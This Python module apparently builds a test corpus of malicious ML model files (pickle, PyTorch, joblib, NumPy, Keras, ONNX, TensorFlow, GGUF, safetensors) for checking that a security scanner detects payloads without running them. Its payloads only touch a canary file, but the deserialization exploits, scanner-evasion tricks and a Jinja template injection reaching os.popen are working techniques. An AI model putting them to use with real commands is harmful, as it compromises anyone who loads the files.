"""A labelled corpus of hostile and benign ML files, written from bytes (no torch, no numpy).

Two users share it: ``tests/test_never_execute.py`` scans the hostile half under an audit hook,
and ``benchmarks/peers.py`` runs mlsec and its peers over both halves. One generator keeps the
two honest: the samples the proof watches are the samples the benchmark counts.

Why byte-crafted: the hostile samples must exist without the libraries whose loaders they
attack (CI has no torch), and every opcode is written on purpose, so each sample documents its
technique. Why canaries: every hostile payload, if a real loader ever deserialized or ran it,
would create (or reach for) the file ``canary`` -- ``posix.system('touch …')``, ``exec`` of an
``open(…, 'w')``, ``subprocess.Popen``, ``os.makedirs``, a chat template that calls
``os.popen``... -- so "the canary does not exist" is evidence that nothing ran. A few payloads
act through the network or a browser instead (``socket.create_connection``,
``webbrowser.open``); the audit hook of the never-execute test is their canary.

Nothing here imports, unpickles or calls a payload: samples are written, never read back.
Benign samples are of two sorts: byte-crafted ones (written by the standard library, e.g.
``pickle.dumps`` of plain data) and the committed fixtures made by the real libraries
(``fixtures/benign``, ``fixtures/formats``, ``fixtures/hf_model``, ``fixtures/demo``).

Layout: every sample lives in its own directory ``<root>/<sample id>/`` so that scanners that
look at sibling files (Hugging Face model directories, ONNX external data) see only that
sample. ``Sample.path`` is what a tool is pointed at (a file, or the sample directory for
directory-shaped models) and ``Sample.target`` the file that must carry the finding.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import importlib.util
import io
import json
import lzma
import marshal
import os
import pickle
import shlex
import shutil
import struct
import subprocess
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True, slots=True)
class Sample:
    """One labelled corpus entry."""

    id: str                       # unique; also the sample's directory name under the root
    technique: str                # what the sample exercises, for humans and the benchmark table
    format: str                   # pickle, torch-zip, joblib, numpy, keras, onnx, gguf, ...
    hostile: bool
    path: str                     # relative to the root: what a tool is pointed at
    target: str                   # relative to the root: the file that must carry the finding
    model: bool = True            # a model file (peer benchmark); False: code, data, dependencies
    needs: tuple[str, ...] = ()   # importable modules mlsec needs to read it (e.g. h5py)
    origin: str = "crafted"       # "crafted", or the committed fixture it was copied from

    def to_dict(self) -> dict[str, Any]:
        """JSON form for manifests."""
        return asdict(self)


# ---------------------------------------------------------------------------------------------
# Pickle opcodes
# ---------------------------------------------------------------------------------------------


class Reducer:
    """Pickles as ``func(*args)``: the classic ``__reduce__`` payload, written by ``pickle``."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.func, self.args


def op_str(text: str, protocol: int) -> bytes:
    """A text literal as ``pickle`` writes it for ``protocol``."""
    if protocol == 0:
        escaped = text.replace("\\", "\\u005c").replace("\n", "\\u000a")
        return b"V" + escaped.encode("raw-unicode-escape") + b"\n"
    raw = text.encode("utf-8")
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def op_bytes(data: bytes) -> bytes:
    """BINBYTES (protocol 3+)."""
    return b"B" + struct.pack("<I", len(data)) + data


def op_global(module: str, name: str, protocol: int) -> bytes:
    """GLOBAL for protocols 0-3, STACK_GLOBAL for 4 and 5 (as pickle itself does)."""
    if protocol >= 4:
        return op_str(module, protocol) + op_str(name, protocol) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_tuple(items: Iterable[bytes]) -> bytes:
    """MARK ... TUPLE around already-encoded items (valid in every protocol)."""
    return b"(" + b"".join(items) + b"t"


def frame(protocol: int, body: bytes) -> bytes:
    """PROTO header (and a FRAME for protocol 4+) around ``body``, which ends with STOP."""
    if protocol < 2:
        return body
    if protocol >= 4:
        body = b"\x95" + struct.pack("<Q", len(body)) + body
    return b"\x80" + bytes([protocol]) + body


def call(module: str, name: str, *args: bytes, protocol: int = 2) -> bytes:
    """Opcodes that push ``module.name(*args)`` (args already encoded); no STOP."""
    return op_global(module, name, protocol) + op_tuple(args) + b"R"


def call_pickle(module: str, name: str, *args: bytes, protocol: int = 2) -> bytes:
    """A complete pickle of ``module.name(*args)``; ``module`` is never imported to write it."""
    return frame(protocol, call(module, name, *args, protocol=protocol) + b".")


# ---------------------------------------------------------------------------------------------
# Containers
# ---------------------------------------------------------------------------------------------


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive with fixed timestamps (reproducible bytes)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def tar_of(members: dict[str, bytes], mode: str = "w") -> bytes:
    """A tar archive (optionally compressed: ``w:gz``...) with fixed metadata."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def torch_zip(pkl: bytes, *, folder: str = "archive", method: int = zipfile.ZIP_STORED) -> bytes:
    """A PyTorch zip checkpoint: ``<folder>/data.pkl`` first, then byteorder and version."""
    return zip_of({f"{folder}/data.pkl": pkl, f"{folder}/byteorder": b"little", f"{folder}/version": b"3\n"},
                  method=method)


def patch_zip_flags(data: bytes, entry: str, or_flags: int) -> bytes:
    """Set flag bits of ``entry`` in its local and central headers (e.g. 1 = 'encrypted')."""
    buf = bytearray(data)
    raw = entry.encode()
    for sig, name_len_at, name_at, flags_at in ((b"PK\x03\x04", 26, 30, 6), (b"PK\x01\x02", 28, 46, 8)):
        pos = buf.find(sig)
        while pos >= 0:
            (nlen,) = struct.unpack_from("<H", buf, pos + name_len_at)
            if bytes(buf[pos + name_at: pos + name_at + nlen]) == raw:
                (flags,) = struct.unpack_from("<H", buf, pos + flags_at)
                struct.pack_into("<H", buf, pos + flags_at, flags | or_flags)
            pos = buf.find(sig, pos + 4)
    return bytes(buf)


TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_torch(main: bytes) -> bytes:
    """``torch.save(..., _use_new_zipfile_serialization=False)``: magic, version, sys info, the
    object pickle, the storage-key list (storages follow; none here)."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (pickle.dumps(TORCH_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps(sys_info, protocol=2) + main + pickle.dumps([], protocol=2))


def legacy_torch_tar(main: bytes) -> bytes:
    """PyTorch < 0.4 tar checkpoint: ``sys_info``, ``pickle``, ``storages``, ``tensors``."""
    return tar_of({
        "sys_info": pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2),
        "pickle": main,
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    })


def npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    """An NPY v1.0 header, padded to a multiple of 64 bytes like numpy writes it."""
    text = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    pad = (64 - (10 + len(text) + 1) % 64) % 64
    header = (text + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def joblib_stream(value: bytes, *, array_bytes: bytes = b".\x00" * 12) -> bytes:
    """joblib's dialect: ``{'w': NumpyArrayWrapper(<f8, (3,)) <raw array bytes>, 'x': value}``.

    ``value`` is protocol-4 opcodes that push one object. The array bytes start with ``.``
    (STOP), so a plain opcode walker stops before ``value``; joblib.load reads on.
    """
    p = 4
    s = lambda t: op_str(t, p)
    dtype = (op_global("numpy", "dtype", p) + s("f8") + b"\x89\x88\x87R"
             + b"(K\x03" + s("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
    state = (b"}(" + s("subclass") + op_global("numpy", "ndarray", p) + s("shape") + b"K\x03\x85"
             + s("order") + s("C") + s("dtype") + dtype + s("allow_mmap") + b"\x88"
             + s("numpy_array_alignment_bytes") + b"K\x10" + b"ub")
    head = b"\x80\x04}" + s("w") + op_global("joblib.numpy_pickle", "NumpyArrayWrapper", p) + b")\x81" + state
    pad = (16 - (len(head) + 1) % 16) % 16
    return head + bytes([pad]) + b"\xff" * pad + array_bytes + b"s" + s("x") + value + b"s."


def zf_file(payload: bytes) -> bytes:
    """Legacy joblib (< 0.10) ``ZF`` file: ``ZF0x`` + hex length + zlib data."""
    return b"ZF" + hex(len(payload)).encode().ljust(19) + zlib.compress(payload)


# -- protobuf wire format (ONNX, TensorFlow) ----------------------------------------------------

def varint(n: int) -> bytes:
    """Protobuf base-128 varint (negative numbers as their 64-bit two's complement, like protobuf)."""
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_int(field: int, value: int) -> bytes:
    return varint(field << 3) + varint(value)


def pb_len(field: int, payload: bytes | str) -> bytes:
    raw = payload.encode() if isinstance(payload, str) else payload
    return varint(field << 3 | 2) + varint(len(raw)) + raw


def onnx_model(nodes: list[bytes], inits: tuple[bytes, ...] | list[bytes] = (),
               opsets: tuple[tuple[str, int], ...] = (("", 17),)) -> bytes:
    """ModelProto (ir_version 8) around a graph of NodeProtos and initializer TensorProtos."""
    graph = b"".join(pb_len(1, n) for n in nodes) + pb_len(2, "g") + b"".join(pb_len(5, t) for t in inits)
    ops = b"".join(pb_len(8, (pb_len(1, d) if d else b"") + pb_int(2, v)) for d, v in opsets)
    return pb_int(1, 8) + pb_len(2, "corpus") + pb_len(7, graph) + ops


def onnx_node(op: str, name: str, inputs: tuple[str, ...], outputs: tuple[str, ...] = ("y",)) -> bytes:
    return (b"".join(pb_len(1, i) for i in inputs) + b"".join(pb_len(2, o) for o in outputs)
            + pb_len(3, name) + pb_len(4, op))


def onnx_tensor(name: str, dims: list[int], *, raw: bytes | None = None,
                external: dict[str, str] | None = None) -> bytes:
    out = b"".join(pb_int(1, d) for d in dims) + pb_int(2, 1) + pb_len(8, name)  # dtype 1 = float32
    if raw is not None:
        out += pb_len(9, raw)
    if external is not None:
        out += b"".join(pb_len(13, pb_len(1, k) + pb_len(2, v)) for k, v in external.items()) + pb_int(14, 1)
    return out


def tf_saved_model(nodes: list[bytes]) -> bytes:
    """SavedModel { schema_version, meta_graphs { graph_def { node... } } }."""
    graph_def = b"".join(pb_len(1, n) for n in nodes)
    meta_graph = pb_len(2, graph_def)
    return pb_int(1, 1) + pb_len(2, meta_graph)


def tf_node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: dict[str, bytes] | None = None) -> bytes:
    """NodeDef; ``attrs`` maps an attribute name to an encoded AttrValue."""
    out = pb_len(1, name) + pb_len(2, op) + b"".join(pb_len(3, i) for i in inputs)
    for key, value in (attrs or {}).items():
        out += pb_len(5, pb_len(1, key) + pb_len(2, value))
    return out


def tf_string_const(value: str) -> bytes:
    """AttrValue{tensor: TensorProto{dtype: DT_STRING, tensor_shape {}, string_val: value}}."""
    tensor = pb_int(1, 7) + pb_len(2, b"") + pb_len(8, value)
    return pb_len(8, tensor)


# -- GGUF -----------------------------------------------------------------------------------------

def _gstr(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf_file(kvs: dict[str, str]) -> bytes:
    """GGUF v3, little-endian, string metadata only, no tensors."""
    body = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    body += b"".join(_gstr(k) + struct.pack("<I", 8) + _gstr(v) for k, v in kvs.items())
    return body + b"\0" * (-len(body) % 32)


# -- safetensors, PNG ---------------------------------------------------------------------------

def safetensors_file(tensors: dict[str, tuple[str, list[int], bytes]], metadata: dict[str, str] | None = None) -> bytes:
    header: dict[str, Any] = {}
    data = b""
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    if metadata:
        header["__metadata__"] = metadata
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def png_file() -> bytes:
    """A valid 1x1 grey PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00\x80")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


# ---------------------------------------------------------------------------------------------
# The hostile corpus
# ---------------------------------------------------------------------------------------------


class _Writer:
    """Writes samples under ``root`` and collects their labels."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.samples: list[Sample] = []

    def file(self, sid: str, name: str, data: bytes | str, technique: str, fmt: str, *, hostile: bool,
             model: bool = True, needs: tuple[str, ...] = (), origin: str = "crafted") -> None:
        path = self.root / sid / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        rel = f"{sid}/{name}"
        self.samples.append(Sample(sid, technique, fmt, hostile, rel, rel, model, needs, origin))

    def directory(self, sid: str, files: dict[str, bytes | str], target: str, technique: str, fmt: str, *,
                  hostile: bool, model: bool = True, needs: tuple[str, ...] = ()) -> None:
        for name, data in files.items():
            path = self.root / sid / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data.encode() if isinstance(data, str) else data)
        self.samples.append(Sample(sid, technique, fmt, hostile, sid, f"{sid}/{target}", model, needs))


def _has(module: str) -> bool:
    try:
        return importlib.util.find_spec(module) is not None
    except (ImportError, ValueError):
        return False


# Modules the payloads below name, i.e. what a real loader would import to run them. The
# never-execute test reports a scan-time import of any of them (other than by a library's own
# import statements). Keep in step with the payloads.
PAYLOAD_MODULES = ("builtins", "__builtin__", "io", "os", "posix", "subprocess", "runpy", "importlib", "webbrowser",
                   "socket", "types", "uuid", "pickle", "torch", "torch.storage", "pandas",
                   "pandas.core.indexes.range", "numpy", "numpy.testing._private.utils", "joblib",
                   "joblib.numpy_pickle", "pathlib", "datasets", "transformers", "keras", "keras.layers", "pty",
                   "shutil", "timeit", "time", "cProfile", "pdb", "functools", "operator", "marshal")


def hostile_samples(root: Path, canary: Path, outside: Path, large_mb: int = 2) -> list[Sample]:
    """Write every hostile sample under ``root``; return their labels.

    ``canary`` is the absolute path every payload would create; ``outside`` is an existing
    file outside ``root`` that ONNX external-data samples point at (a loader would read it).
    ``large_mb`` sizes the one sample that hides its payload behind tensor-sized data.
    Samples that need an optional writer (h5py, py7zr) are left out when it is missing.
    """
    w = _Writer(root)
    c = str(canary)
    touch = f"touch {shlex.quote(c)}"
    py_touch = f"open({c!r}, 'w').close()"
    p2 = lambda obj: pickle.dumps(obj, protocol=2)
    system = Reducer(os.system, touch)

    # -- bare pickles written by the real pickler (__reduce__), every protocol -----------------
    for proto in range(6):
        w.file(f"reduce-system-p{proto}", "model.pkl", pickle.dumps(system, protocol=proto),
               f"REDUCE os.system, protocol {proto}", "pickle", hostile=True)
    w.file("reduce-exec", "model.pkl", p2(Reducer(exec, py_touch)), "REDUCE builtins.exec", "pickle", hostile=True)
    w.file("reduce-eval", "model.pkl",
           pickle.dumps(Reducer(eval, f"__import__('pathlib').Path({c!r}).touch()"), protocol=4),
           "REDUCE builtins.eval", "pickle", hostile=True)
    w.file("reduce-popen", "model.pkl", pickle.dumps(Reducer(subprocess.Popen, ["touch", c]), protocol=3),
           "REDUCE subprocess.Popen", "pickle", hostile=True)
    w.file("reduce-io-open", "model.pkl", p2(Reducer(open, c, "w")), "REDUCE io.open (file write)", "pickle",
           hostile=True)
    w.file("reduce-makedirs", "model.pkl", pickle.dumps(Reducer(os.makedirs, c), protocol=4),
           "REDUCE os.makedirs", "pickle", hostile=True)

    # -- hand-written opcode streams ------------------------------------------------------------
    w.file("runpy-run-code", "model.pkl",
           call_pickle("runpy", "_run_code", op_str(py_touch, 2), b"}", protocol=2),
           "REDUCE runpy._run_code", "pickle", hostile=True)
    w.file("getattr-import-module", "model.pkl",
           frame(2, op_global("builtins", "getattr", 2)
                 + op_tuple([call("importlib", "import_module", op_str("os", 2)), op_str("system", 2)]) + b"R"
                 + op_tuple([op_str(touch, 2)]) + b"R."),
           "getattr(importlib.import_module('os'), 'system')", "pickle", hostile=True)
    w.file("webbrowser-open", "model.pkl", call_pickle("webbrowser", "open", op_str(f"file://{c}", 2)),
           "REDUCE webbrowser.open", "pickle", hostile=True)
    w.file("socket-connect", "model.pkl",
           call_pickle("socket", "create_connection", op_tuple([op_str("127.0.0.1", 2), b"K\x09"])),
           "REDUCE socket.create_connection", "pickle", hostile=True)
    w.file("inst-opcode", "model.pkl", b"(" + op_str(touch, 0) + b"ios\nsystem\n.",
           "INST os.system (protocol 0)", "pickle", hostile=True)
    w.file("obj-opcode", "model.pkl", b"(cos\nsystem\n" + op_str(touch, 1) + b"o.",
           "OBJ os.system (protocol 1)", "pickle", hostile=True)
    # More callables from the denylists every scanner keeps, and call chains built from
    # harmless-looking helpers (the argument lists are MARK ... LIST, valid in every protocol).
    argv = b"(" + op_str("touch", 2) + op_str(c, 2) + b"l"
    for sid, module, name, args, what in (
        ("os-popen", "os", "popen", [op_str(touch, 2)], "REDUCE os.popen"),
        ("subprocess-check-output", "subprocess", "check_output", [argv], "REDUCE subprocess.check_output"),
        ("subprocess-run", "subprocess", "run", [argv], "REDUCE subprocess.run"),
        ("os-execvp", "os", "execvp", [op_str("touch", 2), argv], "REDUCE os.execvp"),
        ("pty-spawn", "pty", "spawn", [argv], "REDUCE pty.spawn"),
        ("shutil-copyfile", "shutil", "copyfile", [op_str("/dev/null", 2), op_str(c, 2)], "REDUCE shutil.copyfile"),
        ("timeit-timeit", "timeit", "timeit", [op_str(py_touch, 2), op_str("pass", 2),
                                               op_global("time", "perf_counter", 2), b"K\x01"], "REDUCE timeit.timeit"),
        ("cprofile-run", "cProfile", "run", [op_str(py_touch, 2)], "REDUCE cProfile.run"),
        ("pdb-run", "pdb", "run", [op_str(py_touch, 2)], "REDUCE pdb.run"),
        ("numpy-runstring", "numpy.testing._private.utils", "runstring", [op_str(py_touch, 2), b"}"],
         "REDUCE numpy.testing._private.utils.runstring"),
    ):
        w.file(sid, "model.pkl", call_pickle(module, name, *args), what, "pickle", hostile=True)
    w.file("functools-partial", "model.pkl",
           frame(2, call("functools", "partial", op_global("posix", "system", 2), op_str(touch, 2)) + b")R."),
           "functools.partial(posix.system, cmd)()", "pickle", hostile=True)
    w.file("operator-methodcaller", "model.pkl",
           frame(2, call("operator", "methodcaller", op_str("system", 2), op_str(touch, 2))
                 + op_tuple([call("importlib", "import_module", op_str("os", 2))]) + b"R."),
           "operator.methodcaller('system', cmd)(importlib.import_module('os'))", "pickle", hostile=True)
    body = marshal.dumps(compile(py_touch, "<payload>", "exec"))
    w.file("marshal-function", "model.pkl",
           frame(4, op_global("types", "FunctionType", 4)
                 + op_tuple([call("marshal", "loads", op_bytes(body), protocol=4), b"}"]) + b"R)R."),
           "types.FunctionType(marshal.loads(bytecode), {})()", "pickle", hostile=True)

    # BUILD with __setstate__: the first BUILD sets an instance attribute __setstate__ = system,
    # the second BUILD calls it. The object is created by REDUCE, NEWOBJ or NEWOBJ_EX.
    setstate = (b"(N}" + op_str("__setstate__", 2) + op_global("posix", "system", 2) + b"stb"
                + op_str(touch, 2) + b"b.")
    ns2 = op_global("types", "SimpleNamespace", 2)
    w.file("build-setstate-reduce", "model.pkl", b"\x80\x02" + ns2 + b")R" + setstate,
           "BUILD __setstate__ = posix.system (object from REDUCE)", "pickle", hostile=True)
    w.file("build-setstate-newobj", "model.pkl", b"\x80\x02" + ns2 + b")\x81" + setstate,
           "BUILD __setstate__ = posix.system (object from NEWOBJ)", "pickle", hostile=True)
    setstate4 = (b"(N}" + op_str("__setstate__", 4) + op_global("posix", "system", 4) + b"stb"
                 + op_str(touch, 4) + b"b.")
    w.file("build-setstate-newobj-ex", "model.pkl",
           frame(4, op_global("types", "SimpleNamespace", 4) + b")}\x92" + setstate4),
           "BUILD __setstate__ = posix.system (object from NEWOBJ_EX)", "pickle", hostile=True)
    # STACK_GLOBAL operands fetched from the memo (memoized inside harmless data first).
    memo_body = (b"]" + op_str("posix", 4) + b"\x94" + op_str("system", 4) + b"\x94" + b"\x86" + b"a0"
                 + b"h\x00h\x01\x93" + op_str(touch, 4) + b"\x85R.")
    w.file("stack-global-memo", "model.pkl", frame(4, memo_body),
           "STACK_GLOBAL with module and name from the memo", "pickle", hostile=True)
    w.file("dotted-uuid-os-system", "model.pkl",
           call_pickle("uuid", "os.system", op_str(touch, 4), protocol=4),
           "dotted STACK_GLOBAL uuid.os.system", "pickle", hostile=True)
    w.file("dunder-builtins-dict-get", "model.pkl",
           frame(4, op_global("builtins", "__dict__.get", 4) + op_tuple([op_str("exec", 4)]) + b"R"
                 + op_tuple([op_str(py_touch, 4)]) + b"R."),
           "dotted STACK_GLOBAL builtins.__dict__.get('exec')", "pickle", hostile=True)
    for proto in (0, 1):
        w.file(f"proto-header-{proto}", "model.pkl",
               b"\x80" + bytes([proto]) + b"cposix\nsystem\n(" + op_str(touch, 0) + b"tR.",
               f"explicit PROTO {proto} header", "pickle", hostile=True)
    w.file("multi-pickle", "model.pkl", p2({"weights": [0.5, -1.5]}) + p2(system),
           "second pickle after a benign one (pickle.load loop)", "pickle", hostile=True)
    w.file("zip-after-pickle", "model.pkl",
           p2({"weights": [0.5]}) + zip_of({"payload.pkl": p2(system)}),
           "zip with a pickle appended to a benign pickle (polyglot)", "pickle", hostile=True)
    inner = pickle.dumps(system, protocol=4)
    w.file("nested-pickle-loads", "model.pkl", call_pickle("pickle", "loads", op_bytes(inner), protocol=4),
           "nested pickle through pickle.loads", "pickle", hostile=True)
    w.file("nested-torch-load-from-bytes", "tensor.pkl",
           call_pickle("torch.storage", "_load_from_bytes", op_bytes(legacy_torch(p2(system))), protocol=4),
           "nested legacy torch.save payload in torch.storage._load_from_bytes", "pickle", hostile=True)
    big = b"\x8e" + struct.pack("<Q", large_mb << 20) + bytes(large_mb << 20)  # BINBYTES8
    w.file("payload-after-large-data", "model.pkl",
           b"\x80\x04}(" + op_str("weights", 4) + big + op_str("meta", 4)
           + call("posix", "system", op_str(touch, 4), protocol=4) + b"u.",
           f"payload after {large_mb} MiB of tensor bytes", "pickle", hostile=True)
    frame_payload = (b"\x80\x04}(" + op_str("columns", 4) + b"]" + op_str("age", 4) + b"a"
                     + op_str("index", 4) + op_global("pandas.core.indexes.range", "RangeIndex", 4) + b")R"
                     + op_str("data", 4) + call("posix", "system", op_str(touch, 4), protocol=4) + b"u.")
    w.file("dataframe-pickle", "train_frame.pkl", frame_payload,
           "pickled DataFrame-like dataset with a payload", "pickle", hostile=True)

    # -- compressed and archived pickles --------------------------------------------------------
    w.file("gzip-pickle", "model.pkl.gz", gzip.compress(p2(system), mtime=0), "gzip-compressed pickle", "gzip",
           hostile=True)
    w.file("bz2-pickle", "weights.bin", bz2.compress(p2(system)), "bz2-compressed pickle (neutral name)", "bz2",
           hostile=True)
    w.file("xz-pickle", "model.pkl.xz", lzma.compress(p2(system)), "xz-compressed pickle", "xz", hostile=True)
    w.file("lzma-alone-pickle", "model.pkl.lzma", lzma.compress(p2(system), format=lzma.FORMAT_ALONE),
           "lzma-alone-compressed pickle", "lzma", hostile=True)
    w.file("zip-pickle", "model.zip", zip_of({"model.pkl": p2(system)}), "pickle inside a zip", "zip", hostile=True)
    w.file("tar-gz-pickle", "model.tar.gz", tar_of({"release/model.pkl": p2(system)}, mode="w:gz"),
           "pickle inside a tar.gz", "tar", hostile=True)

    # -- PyTorch ----------------------------------------------------------------------------------
    w.file("torch-zip", "model.pt", torch_zip(p2(system)), "torch zip, archive/data.pkl", "torch-zip", hostile=True)
    w.file("torch-zip-folder", "model.pt", torch_zip(p2(system), folder="my_model_v2"),
           "torch zip, any folder name", "torch-zip", hostile=True)
    w.file("torch-zip-bin", "pytorch_model.bin", torch_zip(p2(Reducer(exec, py_touch)), method=zipfile.ZIP_DEFLATED),
           "torch zip named pytorch_model.bin (deflated)", "torch-zip", hostile=True)
    w.file("torch-zip-encrypted-flag", "model.pt",
           patch_zip_flags(torch_zip(p2(system)), "archive/data.pkl", 1),
           "torch zip with a false 'encrypted' flag", "torch-zip", hostile=True)
    no_cd = torch_zip(p2(system))
    w.file("torch-zip-no-central-dir", "model.pt", no_cd[: no_cd.index(b"PK\x01\x02")],
           "torch zip without a central directory", "torch-zip", hostile=True)
    w.file("torchscript-constants", "scripted.pt",
           zip_of({"scripted/data.pkl": p2({}), "scripted/constants.pkl": p2(system),
                   "scripted/code/__torch__.py": b"class Model(Module):\n  pass\n", "scripted/version": b"3\n"},
                  method=zipfile.ZIP_STORED),
           "TorchScript archive, hostile constants.pkl", "torchscript", hostile=True)
    w.file("torch-legacy", "model.pt", legacy_torch(p2(system)), "legacy torch.save (pickle sequence)",
           "torch-legacy", hostile=True)
    w.file("torch-legacy-tar", "model.tar", legacy_torch_tar(p2(system)), "legacy torch tar checkpoint",
           "torch-legacy", hostile=True)
    w.file("torch-zip-in-tar-gz", "release.tar.gz", tar_of({"release/model.pt": torch_zip(p2(system))}, mode="w:gz"),
           "torch zip inside a tar.gz", "tar", hostile=True)

    # -- joblib -----------------------------------------------------------------------------------
    sys4 = call("posix", "system", op_str(touch, 4), protocol=4)
    w.file("joblib-after-array", "model.joblib", joblib_stream(sys4),
           "joblib: payload after NumpyArrayWrapper array bytes", "joblib", hostile=True)
    w.file("joblib-zlib", "model.joblib", zlib.compress(joblib_stream(sys4)),
           "joblib zlib-compressed, payload after array bytes", "joblib", hostile=True)
    w.file("joblib-zf-legacy", "model.pkl", zf_file(p2(system)), "legacy joblib ZF file", "joblib", hostile=True)

    # -- NumPy --------------------------------------------------------------------------------------
    obj_npy = npy_header("|O", (1,)) + pickle.dumps(system, protocol=3)
    w.file("npy-object-array", "array.npy", obj_npy, "NumPy .npy object array", "numpy", hostile=True)
    benign_npy = npy_header("<f8", (3,)) + struct.pack("<3d", 1.0, 2.0, 3.0)
    w.file("npz-object-member", "arrays.npz", zip_of({"weights.npy": benign_npy, "labels.npy": obj_npy}),
           "NumPy .npz with an object-array member", "numpy", hostile=True)

    # -- Keras --------------------------------------------------------------------------------------
    lam = compile(f"lambda x: (open({c!r}, 'w').close(), x)[1]", "<lambda>", "eval").co_consts[0]
    code_b64 = base64.b64encode(marshal.dumps(lam)).decode()
    keras3_lambda = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                     "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                "function": {"class_name": "__lambda__",
                                             "config": {"code": code_b64, "defaults": None, "closure": None}},
                                "arguments": {}}}
    w.file("keras-lambda", "model.keras", _keras_zip([keras3_lambda]), "Keras 3 .keras Lambda layer (bytecode)",
           "keras", hostile=True)
    os_fn = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
             "config": {"name": "run", "trainable": True, "dtype": "float32",
                        "function": {"module": "os", "class_name": "function", "config": "system",
                                     "registered_name": "function"},
                        "arguments": {"command": touch}}}
    w.file("keras-os-system", "model.keras", _keras_zip([os_fn]), "Keras 3 config naming os.system",
           "keras", hostile=True)
    if _has("h5py"):
        keras2_lambda = {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                                            "function": [code_b64, None, None],
                                                            "function_type": "lambda", "arguments": {}}}
        w.file("keras-h5-lambda", "model.h5", _keras_h5([keras2_lambda]), "legacy Keras HDF5 Lambda layer",
               "keras-h5", hostile=True, needs=("h5py",))

    # -- ONNX, TensorFlow, GGUF, safetensors -------------------------------------------------------
    for sid, location, what in (("onnx-external-absolute", str(outside), "absolute path"),
                                ("onnx-external-dotdot", os.path.relpath(outside, root / "onnx-external-dotdot"),
                                 "'..' path")):
        w.file(sid, "model.onnx",
               onnx_model([onnx_node("Identity", "id", ("W",))],
                          [onnx_tensor("W", [4], external={"location": location, "offset": "0", "length": "16"})]),
               f"ONNX external data outside the model directory ({what})", "onnx", hostile=True)
    w.directory("tf-savedmodel-pyfunc", {"saved_model.pb": tf_saved_model(
        [tf_node("x", "Placeholder"), tf_node("py", "PyFunc", ("x",), {"token": pb_len(2, "pyfunc_0")})])},
        "saved_model.pb", "TensorFlow SavedModel with a PyFunc op", "savedmodel", hostile=True)
    w.directory("tf-savedmodel-writefile", {"saved_model.pb": tf_saved_model(
        [tf_node("path", "Const", attrs={"value": tf_string_const(c), "dtype": pb_int(6, 7)}),
         tf_node("body", "Const", attrs={"value": tf_string_const("pwned"), "dtype": pb_int(6, 7)}),
         tf_node("write", "WriteFile", ("path", "body"))])},
        "saved_model.pb", "TensorFlow SavedModel with a WriteFile op to an absolute path", "savedmodel", hostile=True)
    ssti = "{% for m in messages %}{{ cycler.__init__.__globals__.os.popen(" + repr(touch) + ").read() }}{% endfor %}"
    w.file("gguf-chat-template", "model.gguf",
           gguf_file({"general.architecture": "llama", "tokenizer.chat_template": ssti}),
           "GGUF chat template reaching os.popen (Jinja SSTI)", "gguf", hostile=True)
    w.file("safetensors-trailing-pickle", "model.safetensors",
           safetensors_file({"w": ("F32", [2], struct.pack("<2f", 1.0, 2.0))}) + p2(system),
           "safetensors with a pickle hidden after the tensors", "safetensors", hostile=True)

    # -- Hugging Face model directories -------------------------------------------------------------
    st_bytes = safetensors_file({"w": ("F32", [2], struct.pack("<2f", 1.0, 2.0))}, {"format": "pt"})
